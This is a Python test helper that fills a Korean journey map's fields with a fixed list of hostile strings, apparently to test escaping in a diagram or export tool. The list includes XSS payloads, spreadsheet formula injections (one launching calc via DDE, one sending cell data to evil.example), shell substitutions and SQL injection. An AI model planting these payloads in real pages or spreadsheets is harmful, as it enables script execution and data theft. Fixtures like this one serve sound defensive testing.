"""Maps whose texts try to be more than text, in every field that holds any."""

from pathlib import Path
from typing import Any, Final

from designer.model.elements import MapHead
from designer.model.hints import Hint
from designer.model.journey import Journey
from designer.model.registry import kinds
from tests.helpers.maps import element, korean_map, relation

FILE: Final = str(Path(__file__).with_name("sheets.py"))
"""A file that is there, which nobody may open."""
WORD: Final = "가나다라마바사아자차"
LONG: Final = WORD * 1000
CUNEIFORM: Final = "𒀀"
"""A character that no typeface of the program has."""
TEXTS: Final = (
    "<b>굵게</b>&amp; <i>x</i> &lt;",
    f'<img src="{FILE}" onerror="alert(1)">',
    f"<img src='file://{FILE}'/><a href='javascript:alert(2)'>여기</a>",
    "]]></text><script>alert(3)</script><![CDATA[",
    "--></style></title></script><svg onload=alert(4)>",
    '=HYPERLINK("http://evil.example/?x="&A1,"눌러")',
    "=cmd|' /C calc'!A0",
    "+1+1|x", "-2+3", "@SUM(1)", "\t=1+1", "\r=2+2", "＝3+3",
    "javascript:alert(5)",
    "http://evil.example/pixel.png",
    "a\x00b\x07c\x1bd\x7fe\x85f￾g",
    "줄\n바꿈\r\n셋\u2028넷\v다섯",
    "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🎉 1️⃣ 🇰🇷",
    "שלום עולם مرحبا \u202eevil\u202c \u2066x\u2069",
    "漢字 約款 確認 龍",
    f"점토판 {CUNEIFORM}",
    "e\u0301 한글 ｶﾀｶﾅ Ａ",
    "{name} {0} %s %(x)s ${HOME} $(id) `id`",
    "_x0041_ _x000D_ &#65; &#x41; \\u0041 \\N",
    "'; DROP TABLE x; -- \" ' ` \\ / < > |",
    "/Type /Catalog endstream endobj %%EOF << >> ( ( ) \\)",
)  # fmt: skip


class _Texts:
    """Gives the texts in turn, or always the one."""

    def __init__(self, only: str) -> None:
        self._texts = (only,) if only else TEXTS
        self._given = 0

    def next(self) -> str:
        """The next text."""
        self._given += 1
        return self._texts[(self._given - 1) % len(self._texts)]

    def fill(self, hints: dict[str, Hint], values: dict[str, Any]) -> dict[str, Any]:
        """Values with a text in every field that may hold any."""
        filled = dict(values)
        for name, hint in hints.items():
            match hint.editor:
                case "line" | "text" | "typeface":
                    filled[name] = self.next()
                case "suggest":
                    filled[name] = self.next()
                case "list" | "tags":
                    filled[name] = [self.next(), self.next()]
                case "sources":
                    filled[name] = [{"id": "q1", "title": self.next(), "link": self.next(), "n": 3}]
                case "comments":
                    filled[name] = [{"id": "c1", "author": self.next(), "text": self.next()}]
                case "messages":
                    filled[name] = [{"text": self.next(), "funnel": self.next(), "frequency": self.next()}]
                case "readings":
                    dates = ("2026-08-31", "2026-09-30")
                    filled[name] = [
                        {"date": date, "value": n / 3, "source": self.next(), "note": self.next()}
                        for n, date in enumerate(dates)
                    ]
        return filled


def hostile_map(only: str = "") -> Journey:
    """The Korean map with such a text in every field, and a card for each text and for the longest word.

    `only` is put everywhere instead of all the texts.
    """
    texts = _Texts(only)
    base = korean_map()
    records: list[Any] = []
    for one in sorted(base.elements(), key=lambda one: one.id):
        hints = dict(kinds()[one.kind].fields())
        fixed = {"shows", "check", "colour_by", "kinds", "voted_kinds", "owners", "font"}
        free = {name: hint for name, hint in hints.items() if name not in fixed}
        plain = one.model_dump(exclude_unset=True, exclude_none=True)
        records.append(type(one).model_validate({"id": one.id, **texts.fill(free, plain)}))
    if not only:
        for n, text in enumerate((*TEXTS, LONG)):
            place = {"stage": "s1", "lane": "l_act", "order": f"X{n:02}1"}
            records.append(element("action", f"x{n}", text=text, **place))
    records += [one for one in base.relations() if one.kind != "follows"]
    records.append(relation("follows", "r1", "s1", "s2", probability=0.4, reason=texts.next()))
    hints = {
        name: hint
        for name, field in MapHead.model_fields.items()
        for hint in field.metadata
        if isinstance(hint, Hint) and name != "font"
    }
    head = texts.fill(hints, {"language": "ko", "date": "2026-11-21"})
    return Journey([MapHead.model_validate(head), *records])
